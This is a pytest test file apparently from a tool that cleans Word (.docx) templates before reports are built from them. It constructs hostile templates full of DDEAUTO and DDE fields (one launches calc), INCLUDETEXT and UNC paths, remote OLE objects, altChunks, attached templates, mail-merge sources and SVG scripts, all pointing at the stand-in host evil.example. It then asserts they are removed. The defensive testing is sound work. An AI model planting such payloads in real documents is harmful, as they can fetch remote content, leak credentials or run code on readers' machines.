"""A council's template is somebody else's file: nothing in it that runs, fetches or leads elsewhere
reaches a paper, whichever part it hides in and however it is written.

The templates are packed here part by part, as no program would make them.
"""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from typing import TYPE_CHECKING
from xml.etree import ElementTree

import pytest
from running import hscp

from hscp_plan.document import Paper, Paragraph, Title
from hscp_plan.errors import Mistyped
from hscp_plan.writers import docx

if TYPE_CHECKING:
    from pathlib import Path

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
TYPES = "application/vnd.openxmlformats-officedocument"
SPACES = " ".join(
    f'xmlns:{prefix}="{uri}"'
    for prefix, uri in {
        "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "r": OFFICE,
        "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
        "m": "http://schemas.openxmlformats.org/officeDocument/2006/math",
        "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
        "o": "urn:schemas-microsoft-com:office:office",
        "pic": "http://schemas.openxmlformats.org/drawingml/2006/picture",
        "v": "urn:schemas-microsoft-com:vml",
        "w15": f"{MICROSOFT}/word/2012/wordml",
        "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
        "wp15": f"{MICROSOFT}/word/2012/wordprocessingDrawing",
        "wps": f"{MICROSOFT}/word/2010/wordprocessingShape",
    }.items()
)
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
EVIL = "evil.example"
"""Stands in whatever leads out of a template."""
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)
PAPER = Paper("board", (Title("T"), Paragraph(("Said.",))), "Somewhere", "Made by hscp")
ALLOWED = {"PAGE", "NUMPAGES", "IF", "=", "STYLEREF"}

# --- ways to reach out --------------------------------------------------------------------------

FIELDS = (
    'DDEAUTO c:\\\\evil.example "/e calc"',
    "DDE excel evil.example",
    'INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"',
    'INCLUDEPICTURE "https://evil.example/a.png" \\d',
    'HYPERLINK "https://evil.example/"',
    'LINK Excel.Sheet "evil.example" "R1C1" \\a',
    'IMPORT "evil.example.png"',
    'DATABASE \\d "evil.example"',
    'RD "evil.example"',
    "MACROBUTTON evil.example here",
    "PRINT evil.example",
    "FORMTEXT evil.example",
    'AUTOTEXT "evil.example"',
    "PAGEevil.example",
)


def mark(kind: str, more: str = "") -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}">{more}</w:fldChar></w:r>'


def code(text: str, tag: str = "instrText") -> str:
    return f"<w:r><w:{tag}>{text}</w:{tag}></w:r>"


def complete(inside: str) -> str:
    return f"{mark('begin')}{inside}{mark('separate')}{code('Shown', 't')}{mark('end')}"


def written(text: str) -> dict[str, str]:
    """A field in every way that Word reads."""
    text = text.replace('"', "&quot;")
    half = len(text.split()[0]) // 2
    title = complete(code("TITLE"))
    return {
        "plain": complete(code(text)),
        "over runs": complete(code(text[:half]) + code(text[half:])),
        "over paragraphs": complete(f"{code(text[:half])}</w:p><w:p>{code(text[half:])}"),
        "deleted": complete(code(text, "delInstrText")),
        "as a text": complete(code(text, "t")),
        "simple": f'<w:fldSimple w:instr="{text}">{code("Shown", "t")}</w:fldSimple>',
        "within IF": complete(code(" IF 1 = ") + complete(code(text)) + code(" x y")),
        "in what PAGE shows": mark("begin") + code("PAGE") + mark("separate")
        + complete(code(text)) + mark("end"),
        "named by another": complete(title + code(f" {text}")),
        "never shown": mark("begin") + code(text) + mark("end"),
        "never ended": mark("begin") + code(text) + code("Shown", "t"),
        "with a picture in its code": complete(
            code(text) + "<w:r><w:drawing><wp:inline/></w:drawing></w:r>"
        ),
        "as a macro's form": mark(
            "begin", '<w:ffData><w:entryMacro w:val="evil.example"/></w:ffData>'
        ) + code("PAGE") + mark("end"),
    }  # fmt: skip


def drawing(inside: str, about: str = "") -> str:
    graphic = f'<a:graphic><a:graphicData uri="urn:pic">{inside}</a:graphicData></a:graphic>'
    named = f'<wp:docPr id="1" name="A">{about}</wp:docPr>'
    return f"<w:r><w:drawing><wp:inline>{named}{graphic}</wp:inline></w:drawing></w:r>"


def picture(blip: str) -> str:
    return drawing(f"<pic:pic><pic:blipFill>{blip}</pic:blipFill></pic:pic>")


def pict(inside: str) -> str:
    return f"<w:r><w:pict><v:shape>{inside}</v:shape></w:pict></w:r>"


OUT = f"https://{EVIL}/a"
EXTERNAL = {"image": "X1", "hyperlink": "X2", "oleObject": "X3", "aFChunk": "X4",
            "subDocument": "X5", "control": "X6", "video": "X7"}  # fmt: skip
"""Relationships that every hostile part has, each to a place elsewhere."""
INSIDE = {"image": ("P1", "media/ok.png"), "oleObject": ("O1", "embeddings/evil.example.bin"),
          "aFChunk": ("C1", "evil.example.html"), "package": ("K1", "embeddings/evil.example.xlsx"),
          "control": ("A1", "activeX/evil.example.xml")}  # fmt: skip
ELEMENTS = {
    "a remote picture": picture('<a:blip r:link="X1"/>'),
    "a picture with a link beside it": picture('<a:blip r:embed="P1" r:link="X1"/>'),
    "a remote VML picture": pict('<v:imagedata r:id="X1"/>'),
    "a VML picture by its address": pict(f'<v:imagedata src="{OUT}" o:href="{OUT}"/>'),
    "a VML picture with a link beside it": pict('<v:imagedata r:id="P1" r:href="X1"/>'),
    "a VML fill": pict('<v:fill type="tile" o:relid="X1"/>'),
    "a VML shape that is a link": f'<w:r><w:pict><v:rect href="{OUT}"/></w:pict></w:r>',
    "a picture that is a link": drawing("<pic:pic/>", '<a:hlinkClick r:id="X2"/>'),
    "a link": f'<w:hyperlink r:id="X2">{code("Shown", "t")}</w:hyperlink>',
    "a linked object": '<w:r><w:object><o:OLEObject Type="Link" r:id="X3"/></w:object></w:r>',
    "an embedded object": '<w:r><w:object><o:OLEObject Type="Embed" r:id="O1"/></w:object></w:r>',
    "an embedded workbook": drawing('<o:OLEObject r:id="K1"/>'),
    "a control": '<w:r><w:object><w:control r:id="A1" w:name="evil.example"/></w:object></w:r>',
    "a remote control": '<w:r><w:object><w:control r:id="X6"/></w:object></w:r>',
    "a chunk": '</w:p><w:altChunk r:id="C1"/><w:p>',
    "a remote chunk": '</w:p><w:altChunk r:id="X4"/><w:p>',
    "a sub-document": '</w:p><w:subDoc r:id="X5"/><w:p>',
    "a film": drawing(f'<pic:pic/><wp15:webVideoPr embeddedHtml="&lt;iframe src={EVIL}&gt;"/>'),
    "a linked film": drawing('<pic:pic><a:videoFile r:link="X7"/></pic:pic>'),
    "a picture of SVG": picture(
        '<a:blip r:embed="P1"><a:extLst><a:ext uri="{9}"><a:svgBlip r:embed="S1"/></a:ext>'
        "</a:extLst></a:blip>"
    ),
    "an attribute that nobody knows": f'<w:smartTag w:uri="urn:a" w:element="file://{EVIL}"/>',
}
STORIES = {
    "body": lambda it: f"<w:p>{it}</w:p>",
    "header1": lambda it: f"<w:p>{it}</w:p>",
    "header2": lambda it: f"<w:tbl><w:tr><w:tc><w:p>{it}</w:p></w:tc></w:tr></w:tbl><w:p/>",
    "footer1": lambda it: (
        "<w:p><w:r><mc:AlternateContent><mc:Choice Requires='wps'><w:drawing><wps:txbx>"
        f"<w:txbxContent><w:p>{it}</w:p></w:txbxContent></wps:txbx></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict><v:textbox><w:txbxContent><w:p>{it}</w:p></w:txbxContent>"
        "</v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
    ),
    "footer2": lambda it: f"<w:p>{complete(code('PAGE'))}{it}</w:p>",
    "footnotes": lambda it: f'<w:footnote w:id="1"><w:p>{it}</w:p></w:footnote>',
    "endnotes": lambda it: f'<w:endnote w:id="1"><w:p>{it}</w:p></w:endnote>',
    "comments": lambda it: f'<w:comment w:id="1"><w:p>{it}</w:p></w:comment>',
    "glossary/document": lambda it: (
        f"<w:docParts><w:docPart><w:p>{it}</w:p></w:docPart></w:docParts>"
    ),
}
"""The parts that hold text, and how a paragraph stands in each."""
ROOTS = {"body": "document", "header1": "hdr", "header2": "hdr", "footer1": "ftr",
         "footer2": "ftr", "glossary/document": "glossaryDocument"}  # fmt: skip
OTHERS = {
    "styles": '<w:styles {0}><w:style w:type="paragraph" w:styleId="N"><w:name w:val="Normal"/>'
    "</w:style></w:styles>",
    "numbering": '<w:numbering {0}><w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape>'
    '<v:imagedata r:id="X1"/></v:shape></w:pict></w:numPicBullet></w:numbering>',
    "fontTable": '<w:fonts {0}><w:font w:name="A"><w:embedRegular r:id="X1"/></w:font></w:fonts>',
    "theme/theme1": '<a:theme {0} name="A"><a:bgFillStyleLst><a:blipFill><a:blip r:link="X1"/>'
    "</a:blipFill></a:bgFillStyleLst></a:theme>",
    "settings": '<w:settings {0}><w:evenAndOddHeaders/><w:attachedTemplate r:id="X1"/>'
    '<w:saveThroughXslt r:id="X2"/><w:attachedSchema w:val="https://evil.example"/>'
    '<w:mailMerge><w:connectString w:val="evil.example"/><w:dataSource r:id="X3"/>'
    '<w:odso><w:src r:id="X4"/></w:odso></w:mailMerge><w:docVars><w:docVar w:name="evil.example"'
    '/></w:docVars><w:compat/></w:settings>',
    "webSettings": '<w:webSettings {0}><w:frameset><w:frame><w:sourceFileName r:id="X1"/>'
    "</w:frame></w:frameset></w:webSettings>",
}  # fmt: skip


def relationship(id: str, kind: str, to: str, external: bool = False) -> str:
    kind = kind if ":" in kind else f"{OFFICE}/{kind}"
    outside = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{id}" Type="{kind}" Target="{to}"{outside}/>'


def relationships(*each: str) -> str:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{"".join(each)}</Relationships>'


def hostile(path: Path, said: str = "", more: str = "") -> Path:
    """A template with `said` in every text, and every part with relationships to elsewhere; `more`
    is one of the package itself."""
    out = [relationship(id, kind, f"{OUT}{id}", external=True) for kind, id in EXTERNAL.items()]
    out += [relationship(id, kind, f"/word/{to}") for kind, (id, to) in INSIDE.items()]
    out.append(relationship("S1", "image", "/word/media/evil.example.svg"))
    parts: dict[str, str | bytes] = {}
    known = []
    for name, around in STORIES.items():
        inside = around(said)
        root = ROOTS.get(name, name)
        file = "document" if name == "body" else name
        if name == "body":
            pages = "".join(
                f'<w:{kind}Reference w:type="{type}" r:id="{kind}{n}"/>'
                for kind in ("header", "footer")
                for n, type in ((1, "default"), (2, "first"))
            )
            pages = f"<w:sectPr>{pages}<w:printerSettings r:id='X1'/></w:sectPr>"
            behind = "<v:background><v:fill r:id='X1'/></v:background>"
            inside = f"<w:background>{behind}</w:background><w:body>{inside}{pages}</w:body>"
        parts[f"word/{file}.xml"] = f"<w:{root} {SPACES}>{inside}</w:{root}>"
        kind = re.sub(r"\d|.*/", "", file)
        types = (
            {"document": "document.main"} if name == "body" else {"document": "document.glossary"}
        )
        known.append((f"word/{file}.xml", f"{TYPES}.wordprocessingml.{types.get(kind, kind)}+xml"))
        if name != "body":
            kind = "glossaryDocument" if kind == "document" else kind
            out.append(relationship(name, kind, f"/word/{file}.xml"))
    for name, text in OTHERS.items():
        parts[f"word/{name}.xml"] = text.format(SPACES)
        kind = "theme" if "theme" in name else name
        of = f"{TYPES}.theme+xml" if kind == "theme" else f"{TYPES}.wordprocessingml.{kind}+xml"
        known.append((f"word/{name}.xml", of))
        out.append(relationship(name, kind, f"/word/{name}.xml"))
    for file in [*parts]:
        folder, _, name = file.rpartition("/")
        parts[f"{folder}/_rels/{name}.rels"] = relationships(*out)
    for _, to in INSIDE.values():
        parts[f"word/{to}"] = PNG if to.endswith("png") else EVIL.encode()
    parts["word/media/evil.example.svg"] = f"<svg><script href='{OUT}'/></svg>"
    parts["customUI/evil.example.xml"] = "<customUI onLoad='evil.example'/>"
    parts["docProps/app.xml"] = (
        f'<Properties xmlns="{OFFICE[:-14]}/extended-properties"><Template>evil.example</Template>'
        "<Company>Somewhere</Company><HyperlinkBase>https://evil.example</HyperlinkBase></Properties>"
    )
    known.append(("docProps/app.xml", f"{TYPES}.extended-properties+xml"))
    parts["_rels/.rels"] = relationships(
        relationship("1", "officeDocument", "word/document.xml"),
        relationship("2", f"{MICROSOFT}/2007/relationships/ui/extensibility",
                     "customUI/evil.example.xml"),
        relationship("3", "extended-properties", "docProps/app.xml"),
        relationship("4", "image", OUT, external=True),
        relationship("5", f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", OUT, True),
        more,
    )  # fmt: skip
    overrides = "".join(f'<Override PartName="/{n}" ContentType="{t}"/>' for n, t in known)
    kinds = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "png": "image/png",
             "svg": "image/svg+xml", "bin": "application/octet-stream", "html": "text/html",
             "xlsx": "application/x", "xml": "application/xml"}  # fmt: skip
    defaults = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in kinds.items())
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    parts["[Content_Types].xml"] = f'<Types xmlns="{space}">{defaults}{overrides}</Types>'
    with zipfile.ZipFile(path, "w") as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return path


# --- what may be left ---------------------------------------------------------------------------

KINDS = {"officeDocument", "core-properties", "custom-properties", "extended-properties", "styles",
         "numbering", "settings", "theme", "fontTable", "header", "footer", "image"}  # fmt: skip


def unpacked(paper: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(paper)) as file:
        return {name: file.read(name) for name in file.namelist()}


def sound(paper: bytes) -> dict[str, bytes]:
    """Nothing of the paper leads out of it, and whatever it asks for is in it; its parts."""
    parts = unpacked(paper)
    for name, data in parts.items():
        assert EVIL.encode() not in data, name
        assert EVIL not in name
        if not name.endswith((".xml", ".rels")):
            continue
        root = ElementTree.fromstring(data)
        if name.endswith(".rels"):
            assert {r.get("TargetMode") for r in root} <= {None, "Internal"}, name
            assert {r.get("Type", "").rpartition("/")[2] for r in root} <= KINDS, name
            continue
        folder, _, file = name.rpartition("/")
        rels = parts.get(f"{folder}/_rels/{file}.rels", b"<none/>")
        known = {r.get("Id") for r in ElementTree.fromstring(rels)}
        asked = {
            v for e in root.iter() for k, v in e.attrib.items() if k.startswith(f"{{{OFFICE}}}")
        }
        assert asked <= known, name
        for fields in (codes(root), [e.get(f"{W}instr", "") for e in root.iter(f"{W}fldSimple")]):
            assert {field.split()[0] for field in fields} <= ALLOWED, name
    return parts


def codes(root: ElementTree.Element) -> list[str]:
    """The codes of the fields that are told by marks; each has its three marks in order."""
    found: list[str] = []
    open_: list[int] = []
    for element in root.iter():
        if element.tag == f"{W}fldChar":
            assert not len(element)
            if element.get(f"{W}fldCharType") == "begin":
                open_.append(len(found))
                found.append("")
            elif element.get(f"{W}fldCharType") == "end":
                open_.pop()
        elif element.tag in (f"{W}instrText", f"{W}delInstrText"):
            found[open_[-1]] += element.text or ""
    assert not open_
    return found


@pytest.mark.parametrize("field", FIELDS, ids=lambda field: field.split()[0])
def test_no_field_that_leads_out_is_left_in_any_part_however_it_is_written(field, tmp_path):
    ways = written(field)
    template = docx.template(hostile(tmp_path / "house.docx", "</w:p><w:p>".join(ways.values())))
    parts = sound(docx.draw(PAPER, template))
    # What a reader saw of it stays.
    fewest = len(ways) - 3
    assert parts["word/header1.xml"].count(b"Shown") >= fewest
    assert parts["word/footer1.xml"].count(b"Shown") >= 2 * fewest


@pytest.mark.parametrize("what", ELEMENTS)
def test_nothing_that_is_fetched_or_runs_is_left_in_any_part(what, tmp_path):
    template = docx.template(hostile(tmp_path / "house.docx", ELEMENTS[what]))
    parts = sound(docx.draw(PAPER, template))
    for tag in (b"OLEObject", b":control", b"altChunk", b"subDoc", b"webVideoPr", b"w:object"):
        assert not [name for name, data in parts.items() if tag in data], tag
    for name in ("word/header1.xml", "word/footer1.xml"):
        # A picture that is in the file itself stays.
        assert ("beside it" in what or "SVG" in what) is (b"P1" in parts[name]), name
        assert what != "a picture that is a link" or b"docPr" in parts[name]


def test_the_test_itself_would_notice(tmp_path):
    said = written(FIELDS[0])["plain"]
    with pytest.raises(AssertionError):
        sound(hostile(tmp_path / "house.docx", said).read_bytes())


def test_fields_that_tell_of_the_paper_stay(tmp_path):
    inside = complete(code(" IF ") + complete(code(" PAGE ")) + code(' = 1 "" "on"'))
    kept = inside + '<w:fldSimple w:instr=" STYLEREF &quot;heading 1&quot; "/>'
    template = docx.template(hostile(tmp_path / "house.docx", kept))
    assert template.left == ("a picture that is kept elsewhere",)
    header = ElementTree.fromstring(unpacked(docx.draw(PAPER, template))["word/header1.xml"])
    assert codes(header) == [' IF  = 1 "" "on"', " PAGE "]
    assert len([*header.iter(f"{W}fldSimple")]) == 1


def test_settings_that_shape_a_page_stay_and_so_does_the_company(tmp_path):
    parts = sound(docx.draw(PAPER, docx.template(hostile(tmp_path / "house.docx"))))
    settings = ElementTree.fromstring(parts["word/settings.xml"])
    assert [e.tag for e in settings] == [f"{W}evenAndOddHeaders", f"{W}compat"]
    app = ElementTree.fromstring(parts["docProps/app.xml"])
    assert [(e.tag.rpartition("}")[2], e.text) for e in app] == [("Company", "Somewhere")]


def test_the_prefixes_that_an_attribute_speaks_of_stay_declared(tmp_path):
    """Else Word calls the file damaged."""
    path, named = hostile(tmp_path / "house.docx"), tmp_path / "named.docx"
    spoken = b'xmlns:w14="urn:fourteen" xmlns:wp14="urn:wp" mc:Ignorable="w14 wp14"'
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(named, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"<w:hdr ", b"<w:hdr " + spoken + b" "))
    header = sound(docx.draw(PAPER, docx.template(named)))["word/header1.xml"].decode()
    ignored = ElementTree.fromstring(header).get(
        "{http://schemas.openxmlformats.org/markup-compatibility/2006}Ignorable"
    )
    assert ignored == "w14 wp14"
    assert 'xmlns:w14="urn:fourteen"' in header.partition(">")[2].partition(">")[0]
    assert 'xmlns:wp14="urn:wp"' in header.partition(">")[2].partition(">")[0]


def test_what_was_taken_out_is_said_once_in_a_sentence(tmp_path, plan):
    said = written(FIELDS[0])["plain"] + ELEMENTS["a linked object"] + ELEMENTS["a link"]
    hostile(tmp_path / "house.docx", said)
    words = ("report", "workplan", "--template", "house.docx", "--as-at", "2021-12-15")
    ran = hscp(*words, "--plan", str(plan), folder=tmp_path)
    assert ran.returncode == 0
    assert " ".join(ran.stderr.decode().split()) == (
        "Left out of house.docx, which could run or fetch something on a reader's computer: a "
        "picture that is kept elsewhere, an object, links and the field DDEAUTO."
    )


@pytest.mark.parametrize("letters", ["UTF-7", "ibm037", "utf-16-trick"])
def test_letters_that_could_hide_a_document_type_are_refused(letters, tmp_path):
    path = hostile(tmp_path / "house.docx")
    with zipfile.ZipFile(path, "a") as file:
        file.writestr("word/more.xml", f'<?xml version="1.0" encoding="{letters}"?><a/>')
    with pytest.raises(Mistyped, match="declares a document type"):
        docx.template(path)


def test_a_part_that_is_called_what_it_is_not_is_left_out(tmp_path):
    more = relationship("9", "officeDocument", "customUI/evil.example.xml")
    with pytest.raises(Mistyped, match="that can be read"):
        docx.template(hostile(tmp_path / "house.docx", more=more))
